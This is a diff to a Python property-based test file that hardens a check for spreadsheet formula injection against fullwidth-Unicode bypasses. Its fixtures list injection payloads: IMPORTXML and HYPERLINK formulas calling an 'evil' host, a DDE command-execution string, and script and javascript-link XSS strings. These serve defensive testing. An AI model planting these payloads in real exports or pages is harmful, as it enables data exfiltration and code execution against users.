@@ -8,6 +8,7 @@ import dataclasses
 import datetime as dt
 import io
 import re
+import unicodedata
 
 import pandas as pd
 import pytest
@@ -35,7 +36,7 @@ pytestmark = pytest.mark.timeout(180)
 SETTINGS = settings(max_examples=25, deadline=None, derandomize=True,
                     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
 FORMULAS = ["=IMPORTXML(\"http://evil\",\"//a\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1 catatan",
-            "=HYPERLINK(\"http://evil\",\"klik\")", "=1+1", "'=1+1", "+62 812 5555"]
+            "=HYPERLINK(\"http://evil\",\"klik\")", "=1+1", "'=1+1", "+62 812 5555", "\uff1d1+1", "\uff20SUM(A1)"]
 MARKUP = ["**tebal** ZQX", ":red[merah] ZQX", "[klik](javascript:alert(1)) ZQX", "<b>html</b> ZQX",
           "<script>alert(1)</script> ZQX", "# judul ZQX", "`kode` ZQX", "مرحبا ZQX \u200b"]
 
@@ -113,7 +114,7 @@ CELL = st.one_of(st.sampled_from(FORMULAS + NASTY + MARKUP), st.text(max_size=30
 
 
 def formula_like(text: str) -> bool:
-    return text.startswith(FORMULA_STARTS)
+    return text.startswith(FORMULA_STARTS) or unicodedata.normalize("NFKC", text[:8]).startswith(FORMULA_STARTS)
 
 
 @SETTINGS
